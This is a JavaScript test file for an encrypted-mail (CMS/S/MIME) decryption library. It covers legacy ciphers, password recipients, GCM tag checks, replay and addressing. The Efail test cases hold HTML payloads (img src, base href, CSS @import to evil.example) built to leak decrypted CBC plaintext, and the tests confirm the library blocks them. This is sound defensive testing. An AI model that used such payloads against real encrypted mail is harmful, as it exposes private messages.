import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseBer } from '../../../static/js/cms/ber.js';
import { encode, explicit, implicitPrimitive, integer, octetString, oid, sequence } from '../../../static/js/cms/der.js';
import { toBase64, utf8 } from '../../../static/js/cms/octets.js';
import { CONTENT_TYPE } from '../../../static/js/cms/oids.js';
import { openssl, put } from '../cms/openssl.js';
import { unwrapForBob } from './people.js';
import { TEXT, carrying, compressed, detached, encrypted, letter, message, multipart, opaque, open, seen } from './messages.js';

const HTML = 'Content-Type: text/html\r\n\r\n<p>bonjour</p><img src="http://evil.example/">';

/** @param {string | Uint8Array} content @param {...string} options of `openssl cms -encrypt`, recipients included */
function bySsl(content, ...options) {
  put('content', content);
  return message(carrying(new Uint8Array(openssl(['cms', '-encrypt', '-binary', '-in', 'content', '-outform', 'DER', ...options]))));
}

const RC2 = ['-provider', 'legacy', '-provider', 'default', '-rc2-128'];
for (const [name, options] of Object.entries({ '3DES': ['-des3'], 'RC2': RC2 })) {
  test(`${name} is opened when a person asks, as text and nothing else`, async () => {
    const old = bySsl(multipart('mixed', HTML, 'Content-Type: application/pdf; name=a.pdf\r\n\r\n%PDF'), ...options, 'bob.pem');
    const closed = await open(old);
    assert.deepEqual([closed.quarantined, closed.text, closed.encrypted, closed.keys], ['old-cipher', '', true, []]);
    const opened = await open(old, { allowOld: true });
    assert.deepEqual([opened.quarantined, opened.text, opened.html, opened.attachments], [undefined, 'bonjour', null, []]);
    assert.ok(opened.notices.includes('old-cipher'));
    assert.equal(opened.encryption?.old, true);
    assert.equal(opened.encryption?.keyTransport, 'rsa-pkcs1');
  });
}

test('a signature inside does not make an old cipher new', async () => {
  /** @type {string[]} */
  const told = [];
  const opened = await open(bySsl(await detached(HTML), '-des3', 'bob.pem'), { allowOld: true, foretell: (html) => void told.push(html) });
  assert.deepEqual([opened.signature.state, opened.html, opened.text, told], ['S1b', null, 'bonjour', []]);
});

test('a new cipher whose key came under an old one is old too', async () => {
  const written = message(carrying(await encrypted(await detached(HTML))));
  const unwrap = async (/** @type {any[]} */ recipients, /** @type {any} */ algorithm) => {
    const found = /** @type {any} */ (await unwrapForBob(recipients, algorithm));
    return { cek: found.cek, recipient: { ...found.recipient, algorithm: { ...found.recipient.algorithm, name: 'ecdh', ecdh: { old: true } } } };
  };
  assert.equal((await open(written, { unwrap })).quarantined, 'old-cipher');
  const opened = await open(written, { unwrap, allowOld: true });
  assert.deepEqual([opened.html, opened.text, opened.encryption?.old], [null, 'bonjour', true]);
});

test('RC2 of 40 bits is unsupported, and says so', async () => {
  assert.equal(seen(await open(bySsl(TEXT, ...RC2.slice(0, -1), '-rc2-40', 'bob.pem'), { allowOld: true })), 'unsupported-algorithm');
});

test('a message under a password asks for it, again where it is wrong', async () => {
  const locked = bySsl(TEXT, '-aes-256-cbc', '-pwri_password', 'le bon mot');
  assert.equal(seen(await open(locked)), 'password-needed');
  assert.equal(seen(await open(locked, { password: 'un autre' })), 'password-needed');
  const opened = await open(locked, { password: 'le bon mot' });
  assert.equal(opened.text.trim(), 'bonjour');
  assert.deepEqual([opened.encryption?.content, opened.encryption?.keyTransport, opened.keys.length], ['aes-256-cbc', 'password', 1]);
});

test('a message that a key of ours opens asks for no password', async () => {
  const opened = await open(bySsl(TEXT, '-aes-256-cbc', '-pwri_password', 'mot', '-recip', 'bob.pem'));
  assert.deepEqual([opened.text.trim(), opened.encryption?.keyTransport], ['bonjour', 'rsa-pkcs1']);
});

test('a key-encryption key that nobody here has is the one failure', async () => {
  const kek = ['-secretkey', '00'.repeat(16), '-secretkeyid', 'C0FFEE'];
  assert.equal(seen(await open(bySsl(TEXT, '-aes-128-cbc', ...kek), { unwrap: async () => null })), 'decrypt-failed');
});

test('says how it was encrypted', async () => {
  const gcm = await open(message(carrying(await encrypted(TEXT))));
  assert.deepEqual(gcm.encryption, { content: 'aes-256-gcm', keyTransport: 'rsa-pkcs1', old: false });
  assert.equal((await open(message(TEXT))).encryption, null);
});

/** A message whose nonce and tag have the lengths given, in octets, all else being right. @param {number} nonceLength @param {number} tagLength */
async function openGcm(nonceLength, tagLength) {
  const [cek, iv] = [new Uint8Array(32).fill(1), new Uint8Array(nonceLength).fill(2)];
  const key = await crypto.subtle.importKey('raw', cek, 'AES-GCM', false, ['encrypt']);
  const sealed = new Uint8Array(await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, utf8(TEXT)));
  const [ciphertext, tag] = [sealed.subarray(0, -16), sealed.subarray(-16, sealed.length - 16 + tagLength)];
  const infos = parseBer(await encrypted(TEXT)).children[1].only().children[1];
  const algorithm = sequence(oid('2.16.840.1.101.3.4.1.46'), sequence(octetString(iv), integer(tagLength)));
  const content = sequence(oid(CONTENT_TYPE.data), algorithm, implicitPrimitive(0, ciphertext));
  const cms = encode(sequence(oid(CONTENT_TYPE.authEnvelopedData), explicit(0, sequence(integer(0), infos.raw, content, octetString(tag)))));
  return open(message(carrying(cms)), { unwrap: async () => cek });
}

test('a GCM tag below 96 bits or a nonce of other than 96 bits is refused, a tag below 128 bits is told [N27]', async () => {
  assert.deepEqual((await openGcm(12, 16)).notices, ['headers-unprotected']);
  for (const tagLength of [12, 13, 14, 15]) {
    const opened = await openGcm(12, tagLength);
    assert.deepEqual([opened.text, opened.notices.includes('short-tag')], ['bonjour', true]);
  }
  for (const [nonce, tag] of [[12, 4], [12, 8], [12, 11], [16, 16]]) assert.equal(seen(await openGcm(nonce, tag)), 'decrypt-failed');
});

test('a tag that does not fit lets no octet out [N28]', async () => {
  const cms = await encrypted(TEXT);
  cms[cms.length - 1] ^= 1;
  const opened = await open(message(carrying(cms)));
  assert.equal(seen(opened), 'decrypt-failed');
  assert.ok(!JSON.stringify(opened).includes('bonjour'));
});

test('unsigned CBC is shown as text, signed CBC as it is [N30]', async () => {
  const unsigned = await open(message(carrying(await encrypted(HTML, 'aes-256-cbc'))));
  assert.deepEqual([unsigned.html, unsigned.text, unsigned.notices.includes('plain-text-only')], [null, 'bonjour', true]);
  const signed = await open(message(carrying(await encrypted(await detached(HTML), 'aes-256-cbc'))));
  assert.ok(signed.html?.includes('<p>bonjour</p>'));
  const broken = (await detached(HTML)).slice();
  broken[broken.indexOf(60)] ^= 1;
  const altered = await open(message(carrying(await encrypted(broken, 'aes-256-cbc'))));
  assert.equal(altered.html, null);
});

const LEAK = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';
/** @type {Record<string, () => Promise<Uint8Array | string> | Uint8Array | string>} ways to make a reader send what CBC decrypts to */
const EFAIL = {
  'an open attribute': () => LEAK,
  'around the text, in one multipart': () => multipart('mixed', LEAK, TEXT, 'Content-Type: text/html\r\n\r\n">'),
  'an alternative': () => multipart('alternative', TEXT, LEAK),
  'a related root': () => multipart('related', LEAK, 'Content-Type: image/png\r\nContent-ID: <a>\r\n\r\nx'),
  'a multipart without end': () => `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${LEAK}`,
  'style and base': () => 'Content-Type: text/html\r\n\r\n<base href="http://evil.example/"><style>@import url(http://evil.example/);</style>bonjour',
  'below a signature that does not hold': async () => detached(LEAK, (await opaque('x'))),
  'below a wrapped message': () => `Content-Type: message/rfc822; forwarded=no\r\n\r\nSubject: s\r\n${LEAK}`,
  'in compressed data': () => carrying(compressed(LEAK)),
};
for (const [name, make] of Object.entries(EFAIL)) {
  test(`Efail: ${name}: text and nothing that loads [N30]`, async () => {
    const opened = await open(message(carrying(await encrypted(await make(), 'aes-256-cbc'))));
    assert.deepEqual([opened.html, opened.encrypted], [null, true]);
    assert.ok(opened.notices.includes('plain-text-only'));
    assert.ok(!opened.text.includes('evil.example'));
  });
}

test('the same ciphertext under another From, or embedded, is named a copy [N26]', async () => {
  const part = carrying(await encrypted(letter()));
  const [{ hash, algorithm, encryptedKey }] = (await open(message(part))).keys;
  const seenKeys = async (/** @type {Uint8Array} */ key) => (toBase64(key) === toBase64(encryptedKey) ? { hash, algorithm, messageId: 'm1' } : null);
  const replayed = await open(message(part, ['From: mallory@evil.example', 'Subject: Re: secret']), { seenKeys });
  assert.deepEqual([replayed.copyOf, replayed.from[0].address], ['m1', 'mallory@evil.example']);
  const around = await open(message(multipart('mixed', TEXT, part)), { seenKeys });
  assert.deepEqual([around.copyOf, around.attachments.map(({ opens }) => opens)], [undefined, ['cms']]);
  assert.equal((await open(around.attachments[0].bytes, { seenKeys })).copyOf, 'm1');
});

test('a protected To that names another is told [N36]', async () => {
  const opened = await open(message(carrying(await encrypted(letter()))), { ownAddress: 'carol@pli.example' });
  assert.ok(opened.notices.includes('not-addressed-to-you'));
  assert.ok(!(await open(message(carrying(await encrypted(letter()))), { ownAddress: 'BOB@pli.example' })).notices.includes('not-addressed-to-you'));
});
